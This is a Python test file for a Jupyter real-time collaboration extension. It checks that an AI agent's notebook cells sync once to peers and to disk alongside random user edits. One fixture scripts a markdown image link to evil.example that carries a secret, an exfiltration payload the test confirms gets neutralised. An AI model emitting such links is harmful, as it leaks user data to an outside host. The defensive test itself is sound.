"""With a real jupyter-collaboration (in its own venv: devtools/collaboration.py), the server writes the
agent's cells into the notebook's shared document: a second collaborator (a y-sync peer on the
room's websocket, as a browser is) sees each cell once, with outputs, and the file the collaboration
extension saves has each once. Then users edit, insert and delete cells while the agent inserts and
edits its own: nothing of either is lost or doubled."""

from __future__ import annotations

import asyncio
import json
import random
from collections.abc import Iterator
from typing import Any

import httpx
import nbformat
import pytest

from agent_core.tools.notebook import new_cell_id
from devtools.collaboration import NotebookPeer, collaboration_server
from devtools.fake_llm import FakeLLM, text, tool_call
from devtools.jupyter_process import TOKEN, JupyterProcess
from jupyter_ext.shared_notebook import agent_metadata
from tests.conftest import of_type

SCHEDULES = 20
# Three stream messages from the kernel (flushed, apart in time), which JupyterLab keeps as one output.
STREAMING = "import time\nfor i in range(3):\n    print('line', i, flush=True)\n    time.sleep(0.05)"


@pytest.fixture(scope="module")
def llm() -> Iterator[FakeLLM]:
    with FakeLLM() as fake:
        yield fake


@pytest.fixture(scope="module")
def rtc_server(tmp_path_factory: pytest.TempPathFactory, llm: FakeLLM, module_servers: list) -> JupyterProcess:
    env = {"OPENAI_BASE_URL": llm.base_url, "OPENAI_API_KEY": "sk-secret", "CELLWRIGHT_MODEL": "fake-model"}
    server = collaboration_server(tmp_path_factory.mktemp("rtc"), env)
    module_servers.append(server)
    return server.start()


@pytest.fixture(scope="module")
def kernel(rtc_server: JupyterProcess) -> str:
    """One kernel for the schedules' notebooks (runs name it): twenty would not fit beside the other tests."""
    return rtc_server.open_notebook("kernel.ipynb")


def user_notebook(server: JupyterProcess, path: str, sources: list[str]) -> None:
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(source, id=f"user-{i}") for i, source in enumerate(sources)]
    nbformat.write(notebook, str(server.root / path))


class Api:
    """The HTTP API as the panel uses it, without blocking the peer's event loop."""

    def __init__(self, server: JupyterProcess) -> None:
        self.server = server
        self.client = httpx.AsyncClient(base_url=server.url, headers={"Authorization": f"token {TOKEN}"}, timeout=120)

    async def post(self, path: str, body: dict[str, Any]) -> httpx.Response:
        response = await self.client.post(f"cellwright/api/{path}", content=json.dumps(body))
        assert response.status_code in (200, 201, 202), response.text
        return response

    async def events(self, thread: str, after: int = 0) -> list[dict[str, Any]]:
        """The thread's events after `after`, read until the run stops (finished or waiting)."""
        return await asyncio.to_thread(self.server.events, thread, after)

    async def approve(self, thread: str, call_id: str, cells: list[dict[str, Any]] | None = None) -> None:
        await self.post(f"threads/{thread}/approvals/{call_id}", {"decision": "approve", "notebook_cells": cells})


def agent_cells(notebook: Any) -> dict[str, list[dict[str, Any]]]:
    """The cells of each tool call, by tool_call_id."""
    found: dict[str, list[dict[str, Any]]] = {}
    for index in range(notebook.cell_number):
        meta = agent_metadata(notebook.ycells[index])
        if meta is not None:
            found.setdefault(meta["tool_call_id"], []).append(notebook.get_cell(index))
    return found


def saved_cells(server: JupyterProcess, path: str) -> list[dict[str, Any]]:
    """The cells of the file on disk, sources joined (nbformat writes them as lists of lines)."""
    return [dict(cell) for cell in nbformat.read(str(server.root / path), as_version=4)["cells"]]


def finished(calls: dict[str, list[dict[str, Any]]], call_id: str) -> bool:
    return call_id in calls and calls[call_id][0].get("execution_count") is not None


async def saved_as_peer_sees(peer: NotebookPeer, server: JupyterProcess, path: str) -> list[dict[str, Any]]:
    """The saved file, once it holds what the peer sees (the room saves a second after a change,
    and its `dirty` flag going back is a change the peer is told of)."""

    def same() -> bool:
        try:
            saved = saved_cells(server, path)
        except (OSError, ValueError, nbformat.reader.NotJSONError):
            return False
        return [(c["id"], c["source"]) for c in saved] == [(c["id"], c["source"]) for c in peer.notebook.get()["cells"]]

    await peer.wait_for(lambda _nb: same(), "the saved file match its document")
    return saved_cells(server, path)


def test_agent_cells_reach_a_second_peer_once_and_the_saved_file(rtc_server: JupyterProcess, llm: FakeLLM) -> None:
    llm.script(
        tool_call("run_cell", {"code": "print('first')\n41 + 1"}, id="call_first"),
        tool_call("add_markdown", {"content": "## Result\n![leak](https://evil.example/?k=secret)"}, id="call_md"),
        tool_call("run_cell", {"code": STREAMING}, id="call_second"),
        text("Done."),
    )
    path = "shared.ipynb"
    user_notebook(rtc_server, path, ["mine = 'typed by the user'"])
    kernel = rtc_server.open_notebook(path)

    async def scenario() -> None:
        api = Api(rtc_server)
        assert (await api.client.get("cellwright/api/health")).json()["shared_document"] is True
        peer = await NotebookPeer.join(rtc_server, path)
        try:
            thread = (await api.post("threads", {"notebook_path": path})).json()["thread_id"]
            await api.post(f"threads/{thread}/runs", {"message": "go", "kernel_id": kernel})
            assert (await api.events(thread))[-1]["status"] == "awaiting_approval"
            await api.approve(thread, "call_first")
            await peer.wait_for(lambda nb: finished(agent_cells(nb), "call_first"), "the first cell finish")
            assert (await api.events(thread))[-1]["status"] == "awaiting_approval"
            await api.approve(thread, "call_second")
            events = await api.events(thread)
            assert of_type(events, "final")
            await peer.wait_for(lambda nb: finished(agent_cells(nb), "call_second"), "the second cell finish")

            calls = agent_cells(peer.notebook)
            assert sorted(calls) == ["call_first", "call_md", "call_second"]
            assert all(len(cells) == 1 for cells in calls.values()), calls
            first, markdown, second = calls["call_first"][0], calls["call_md"][0], calls["call_second"][0]
            started = {e["id"]: e for e in of_type(events, "cell_started")}
            assert first["id"] == started["call_first"]["cell_id"]  # the nbformat id the server gave
            assert first["source"] == "print('first')\n41 + 1"
            assert [o["output_type"] for o in first["outputs"]] == ["stream", "execute_result"]
            assert first["outputs"][0]["text"] == "first\n"
            assert first["outputs"][1]["data"]["text/plain"] == "42"
            finished_counts = {e["id"]: e["execution_count"] for e in of_type(events, "cell_finished")}
            assert first["execution_count"] == finished_counts["call_first"]
            # Three stream outputs on the stream, one in the notebook, as JupyterLab's own model keeps them.
            assert len([e for e in of_type(events, "cell_output") if e["id"] == "call_second"]) == 3
            assert [o.get("text") for o in second["outputs"]] == ["line 0\nline 1\nline 2\n"]
            meta = first["metadata"]["cellwright"]
            assert meta["thread_id"] == thread and meta["tool_call_id"] == "call_first" and meta["decision"]
            assert markdown["cell_type"] == "markdown" and "## Result" in markdown["source"]
            assert "![" not in markdown["source"] and "(not loaded)" in markdown["source"]  # inert

            cells = peer.notebook.get()["cells"]
            assert cells[0]["source"] == "mine = 'typed by the user'"  # the user's cell, untouched, first
            assert [c["id"] for c in cells[1:]] == [first["id"], markdown["id"], second["id"]]  # in the order they ran

            saved = await saved_as_peer_sees(peer, rtc_server, path)
            assert [c["source"] for c in saved][0] == "mine = 'typed by the user'"
            assert sum(1 for c in saved if c["metadata"].get("cellwright", {}).get("tool_call_id") == "call_first") == 1
            assert saved[1]["outputs"][1]["data"]["text/plain"] == "42"
            assert isinstance(saved[1]["execution_count"], int)
        finally:
            await peer.close()
            await api.client.aclose()

    asyncio.run(scenario())
    assert "sk-secret" not in rtc_server.log_path.read_text()


def test_a_notebook_nobody_has_open_gets_the_cells_and_undo_takes_one_back(
    rtc_server: JupyterProcess, llm: FakeLLM
) -> None:
    """No room yet: the server opens the document itself (never the file), replaces the blank cell of
    a new notebook as the panel does, and the collaboration extension saves. Undo removes the cell."""
    llm.script(
        tool_call("run_cell", {"code": "kept = 1"}, id="call_kept"),
        tool_call("run_cell", {"code": "undone = 2"}, id="call_undone"),
        text("Done."),
    )
    path = "nobody.ipynb"
    kernel = rtc_server.open_notebook(path)  # a new notebook: one empty code cell

    async def scenario() -> None:
        api = Api(rtc_server)
        try:
            thread = (await api.post("threads", {"notebook_path": path})).json()["thread_id"]
            await api.post(f"threads/{thread}/runs", {"message": "go", "kernel_id": kernel})
            await api.events(thread)
            await api.approve(thread, "call_kept")
            await api.events(thread)
            await api.approve(thread, "call_undone")
            assert of_type(await api.events(thread), "final")

            peer = await NotebookPeer.join(rtc_server, path)  # opens it after the run
            try:
                await peer.wait_for(lambda nb: finished(agent_cells(nb), "call_undone"), "the last cell")
                cells = peer.notebook.get()["cells"]
                assert [c["source"] for c in cells] == ["kept = 1", "undone = 2"]  # the blank cell gave way
                saved = await saved_as_peer_sees(peer, rtc_server, path)
                assert [c["source"] for c in saved] == ["kept = 1", "undone = 2"]

                await api.post(f"threads/{thread}/undo/call_undone", {})
                await peer.wait_for(lambda nb: "call_undone" not in agent_cells(nb), "the undone cell go")
                saved = await saved_as_peer_sees(peer, rtc_server, path)
                assert [c["source"] for c in saved] == ["kept = 1"]
            finally:
                await peer.close()
        finally:
            await api.client.aclose()

    asyncio.run(scenario())


def test_a_thread_whose_notebook_is_gone_writes_nowhere(rtc_server: JupyterProcess, llm: FakeLLM) -> None:
    """The notebook was deleted (or never saved): the cell runs, its events are all there is; no room,
    no file, no error."""
    llm.script(tool_call("run_cell", {"code": "print('ran')"}, id="call_gone"), text("Done."))
    kernel = rtc_server.open_notebook("other.ipynb")
    thread = rtc_server.request("POST", "cellwright/api/threads", {"notebook_path": "gone.ipynb"}).json()["thread_id"]
    body = {"message": "go", "kernel_id": kernel}
    assert rtc_server.request("POST", f"cellwright/api/threads/{thread}/runs", body).status_code == 202
    rtc_server.events(thread)
    approve = {"decision": "approve", "kernel_id": kernel}
    assert (
        rtc_server.request("POST", f"cellwright/api/threads/{thread}/approvals/call_gone", approve).status_code == 202
    )
    events = rtc_server.events(thread)
    assert of_type(events, "cell_output")[0]["output"]["text"] == "ran\n"
    assert not (rtc_server.root / "gone.ipynb").exists()
    log = rtc_server.log_path.read_text()
    assert "shared notebook" not in log and "shared document of gone.ipynb" not in log


def test_the_agent_fixes_its_own_cell_before_the_file_is_saved(rtc_server: JupyterProcess, llm: FakeLLM) -> None:
    """edit_cell right after its run_cell, nothing sent by a browser: the cell is in the shared
    document, not yet in the saved file (the room saves a second later), and edit_cell finds it there."""
    failing = new_cell_id("call_fail")
    llm.script(
        tool_call("run_cell", {"code": "1 / 0"}, id="call_fail"),
        tool_call("edit_cell", {"cell_id": failing, "source": "1 / 1"}, id="call_fix"),
        text("Fixed."),
    )
    path = "fix.ipynb"
    user_notebook(rtc_server, path, ["first = 1"])
    kernel = rtc_server.open_notebook(path)

    async def scenario() -> None:
        api = Api(rtc_server)
        peer = await NotebookPeer.join(rtc_server, path)
        try:
            thread = (await api.post("threads", {"notebook_path": path})).json()["thread_id"]
            await api.post(f"threads/{thread}/runs", {"message": "go", "kernel_id": kernel})
            await api.events(thread)
            await api.approve(thread, "call_fail")
            waiting = await api.events(thread)
            assert [e["id"] for e in of_type(waiting, "approval_required")][-1] == "call_fix", waiting[-4:]
            await api.approve(thread, "call_fix")
            assert of_type(await api.events(thread), "final")
            await peer.wait_for(lambda nb: finished(agent_cells(nb), "call_fix"), "the fixed cell")
            cells = peer.notebook.get()["cells"]
            assert [c["source"] for c in cells] == ["first = 1", "1 / 1"] and cells[1]["id"] == failing
            assert cells[1]["outputs"][0]["data"]["text/plain"] == "1.0"
        finally:
            await peer.close()
            await api.client.aclose()

    asyncio.run(scenario())


class User:
    """A user at the peer: random edits, inserts and deletes of their own cells, remembered, so the
    end can be checked against what they did."""

    def __init__(self, peer: NotebookPeer, rng: random.Random, seed: int) -> None:
        self.peer, self.rng, self.seed = peer, rng, seed
        self.sources: dict[str, str] = {c["id"]: c["source"] for c in peer.notebook.get()["cells"]}
        self.deleted: set[str] = set()
        self.made = 0

    def _index(self, cell_id: str) -> int:
        for index in range(self.peer.notebook.cell_number):
            if self.peer.notebook.ycells[index]["id"] == cell_id:
                return index
        raise AssertionError(f"the user's cell {cell_id} disappeared: {self.peer.notebook.get()['cells']}")

    def act(self, times: int) -> None:
        for _ in range(times):
            alive = [cell_id for cell_id in self.sources if cell_id not in self.deleted]
            kind = self.rng.choice(["edit", "edit", "insert", "delete"] if len(alive) > 2 else ["edit", "insert"])
            notebook = self.peer.notebook
            if kind == "edit":  # typing into one of their cells, at some position
                cell_id = self.rng.choice(alive)
                ysource = notebook.ycells[self._index(cell_id)]["source"]
                at = self.rng.randint(0, len(str(ysource)))
                typed = f" t{self.made}"
                self.made += 1
                ysource.insert(at, typed)
                self.sources[cell_id] = self.sources[cell_id][:at] + typed + self.sources[cell_id][at:]
            elif kind == "insert":  # a new cell anywhere, agent cells included
                cell_id = f"user-new-{self.seed}-{self.made}"
                source = f"new_{self.made} = {self.made}"
                self.made += 1
                at = self.rng.randint(0, notebook.cell_number)
                notebook.ycells.insert(
                    at, notebook.create_ycell({"cell_type": "code", "source": source, "id": cell_id})
                )
                self.sources[cell_id] = source
            else:
                cell_id = self.rng.choice(alive)
                del notebook.ycells[self._index(cell_id)]
                self.deleted.add(cell_id)

    def live_cells(self) -> list[dict[str, Any]]:
        return [
            {"id": c["id"], "cell_type": c["cell_type"], "source": c["source"]}
            for c in self.peer.notebook.get()["cells"]
        ]


@pytest.mark.parametrize("seed", range(SCHEDULES))
def test_user_edits_against_agent_cells_lose_nothing(
    rtc_server: JupyterProcess, llm: FakeLLM, kernel: str, seed: int
) -> None:
    """A seeded random schedule: the user's changes land between (and while) the agent's cells are
    inserted, edited and given outputs. At the end, every user change is there, every cell the user
    did not delete is there once, and every agent cell is there exactly once, in the saved file too."""
    rng = random.Random(seed)
    path = f"schedule-{seed}.ipynb"
    user_notebook(rtc_server, path, [f"u{i} = {i}" for i in range(4)])
    calls = [f"s{seed}_a1", f"s{seed}_md", f"s{seed}_a2", f"s{seed}_edit", f"s{seed}_a3"]
    a1_cell = None

    async def scenario() -> None:
        nonlocal a1_cell
        api = Api(rtc_server)
        peer = await NotebookPeer.join(rtc_server, path)
        user = User(peer, rng, seed)
        try:
            llm.script(
                tool_call("run_cell", {"code": f"a1 = {seed}\nprint('a1', a1)"}, id=calls[0]),
                tool_call("add_markdown", {"content": f"Step {seed}"}, id=calls[1]),
                tool_call("run_cell", {"code": "print('a2')"}, id=calls[2]),
                text("First part done."),
            )
            thread = (await api.post("threads", {"notebook_path": path})).json()["thread_id"]
            await api.post(f"threads/{thread}/runs", {"message": "part one", "kernel_id": kernel})
            user.act(rng.randint(0, 3))
            await api.events(thread)
            user.act(rng.randint(0, 2))
            await api.approve(thread, calls[0], user.live_cells())
            user.act(rng.randint(1, 3))  # while the cell is inserted and runs
            await api.events(thread)
            user.act(rng.randint(0, 2))
            await api.approve(thread, calls[2], user.live_cells())
            user.act(rng.randint(1, 3))
            await api.events(thread)
            await peer.wait_for(lambda nb: finished(agent_cells(nb), calls[2]), "the second cell finish")
            a1_cell = agent_cells(peer.notebook)[calls[0]][0]["id"]

            llm.script(
                tool_call(
                    "edit_cell", {"cell_id": a1_cell, "source": f"a1 = {seed} * 2\nprint('edited', a1)"}, id=calls[3]
                ),
                tool_call("run_cell", {"code": "print('a3')"}, id=calls[4]),
                text("All done."),
            )
            await api.post(
                f"threads/{thread}/runs",
                {"message": "part two", "kernel_id": kernel, "notebook_cells": user.live_cells()},
            )
            user.act(rng.randint(0, 2))
            await api.events(thread)
            await api.approve(thread, calls[3], user.live_cells())
            user.act(rng.randint(1, 3))  # while the agent edits its cell
            await api.events(thread)
            await api.approve(thread, calls[4], user.live_cells())
            user.act(rng.randint(1, 3))
            events = await api.events(thread)
            assert of_type(events, "final"), events[-3:]
            await peer.wait_for(lambda nb: finished(agent_cells(nb), calls[4]), "the last cell finish")

            saved = await saved_as_peer_sees(peer, rtc_server, path)
            by_id = {c["id"]: c for c in saved}
            ids = [c["id"] for c in saved]
            assert len(ids) == len(set(ids)), ids
            for cell_id, source in user.sources.items():  # every user change, no cell they kept gone
                if cell_id in user.deleted:
                    assert cell_id not in by_id
                else:
                    assert by_id[cell_id]["source"] == source
            agent = [c for c in saved if c["metadata"].get("cellwright")]
            assert sorted(c["metadata"]["cellwright"]["tool_call_id"] for c in agent) == sorted(
                [calls[3], calls[1], calls[2], calls[4]]
            )  # a1's cell now carries the edit's call
            assert by_id[a1_cell]["source"] == f"a1 = {seed} * 2\nprint('edited', a1)"
            assert by_id[a1_cell]["outputs"][0]["text"] == f"edited {seed * 2}\n"
            assert by_id[a1_cell]["metadata"]["cellwright"]["previous_source"] == f"a1 = {seed}\nprint('a1', a1)"
            assert len(agent) + len(user.sources) - len(user.deleted) == len(saved)
            running = [c for c in agent if c["cell_type"] == "code"]
            assert all(isinstance(c["execution_count"], int) for c in running)
            order = [c["metadata"]["cellwright"]["tool_call_id"] for c in agent]
            assert order.index(calls[3]) < order.index(calls[1]) < order.index(calls[2]) < order.index(calls[4])
        finally:
            await peer.close()
            await api.client.aclose()

    asyncio.run(scenario())
